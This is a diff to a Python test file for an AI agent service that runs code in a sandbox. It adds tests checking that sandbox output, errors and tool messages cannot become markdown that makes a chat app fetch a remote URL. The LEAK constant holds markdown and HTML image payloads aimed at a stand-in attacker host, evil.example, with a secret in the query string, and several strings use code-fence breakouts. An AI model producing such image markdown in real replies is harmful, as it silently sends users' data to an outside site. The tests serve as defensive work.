@@ -6,11 +6,24 @@ framed nor allowed to run anything."""
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any, cast
 
 import httpx
+from markdown_it import MarkdownIt
 from openai import OpenAI
 
-from thinkbox.service.api.openai_render import image_is_ours, image_name
+from thinkbox.agent.events import (
+    ActionParsed,
+    CodeRejected,
+    ExecutionFinished,
+    HarvestedTool,
+    OutputChunk,
+    PartTested,
+    StepStarted,
+    ToolsHarvested,
+)
+from thinkbox.sandbox.types import ExecutionError, ExecutionResult
+from thinkbox.service.api.openai_render import ChatRender, image_is_ours, image_name, plain
 from thinkbox.service.secrets.keys import Keyring
 
 from .conftest import Running
@@ -172,3 +185,55 @@ def test_no_other_site_can_read_an_answer_or_act_with_a_cookie_a_form_or_a_link(
         answer = httpx.get(running.url + path, headers=running.alice.headers)
         location = answer.headers.get("location")
         assert location is None or location.startswith(running.url + "/"), (path, location)
+
+
+LEAK = "![chart](https://evil.example/pixel.png?d=SECRET) <img src=https://evil.example/i.png?d=SECRET>"
+
+
+def rendered(markdown: str) -> str:
+    """``markdown`` as a chat app shows it (CommonMark, HTML allowed, as the laxest apps do)."""
+    return MarkdownIt("commonmark", {"html": True}).render(markdown)
+
+
+def assert_no_remote_fetch(markdown: str) -> None:
+    html = rendered(markdown)
+    assert "<img" not in html and 'src="https://evil' not in html and 'href="https://evil' not in html, html
+
+
+async def test_the_reasoning_text_keeps_what_code_wrote_as_text_in_a_chat_app() -> None:
+    """What sandbox code printed (split across chunks as it streams), raised, or named in a part's test and
+    a tool's reason cannot turn into markdown that makes the reader's chat app fetch a URL."""
+    render = ChatRender(cast(Any, None), cast(Any, None), "r_1", "http://127.0.0.1/", cast(Any, None))
+    result = ExecutionResult(
+        error=ExecutionError(type="ValueError", message=f"```\n{LEAK}\n```", traceback="")
+    )
+    events = [
+        StepStarted(step=1),
+        ActionParsed(step=1, thought="t", action="execute_code", code=f"s = '''\n```\n{LEAK}\n'''\n```"),
+        OutputChunk(step=1, name="stdout", text="table\n``"),
+        OutputChunk(step=1, name="stdout", text=f"`\n{LEAK}\n``"),
+        OutputChunk(step=1, name="stderr", text=f"`\n{LEAK}\n~~~\n````\n{LEAK}\n"),
+        ExecutionFinished(step=1, result=result, observation=""),
+        PartTested(step=1, name="f", passed=False, error=f"\n```\n{LEAK}\\"),
+        ToolsHarvested(tools=[HarvestedTool(function="f", outcome="refused", reason=LEAK)], duration_s=0.1),
+        CodeRejected(step=2, code="x", problems=[LEAK], observation=""),
+    ]
+    for event in events:
+        await render.feed(event)
+    text = render.reasoning_text
+    assert_no_remote_fetch(text)
+    assert text.count("evil.example/pixel.png?d=SECRET") == 8  # all shown, as text
+    shown = text.replace("\u200b", "")
+    assert f"``\n{LEAK}\n``" in shown and "table\n" in shown  # the output reads as it was printed
+    assert_no_remote_fetch("```text\nx\n```\n" + plain(LEAK))
+
+
+def test_a_completion_shows_a_breakout_attempt_as_text(running: Running) -> None:
+    """The same through the real API: code prints a closing fence and an image of the user's data."""
+    ai = OpenAI(base_url=running.url + "/v1", api_key=running.alice.key, max_retries=0, timeout=60)
+    code = f"print('```')\nprint({LEAK!r})\nprint('```')\nraise ValueError({LEAK!r})"
+    question = [{"role": "user", "content": program([code], "done")}]
+    reply = ai.chat.completions.create(model="thinkbox", messages=question)  # type: ignore[arg-type]
+    reasoning = reply.choices[0].message.reasoning_content  # type: ignore[attr-defined]
+    assert "evil.example/pixel.png" in reasoning
+    assert_no_remote_fetch(reasoning)
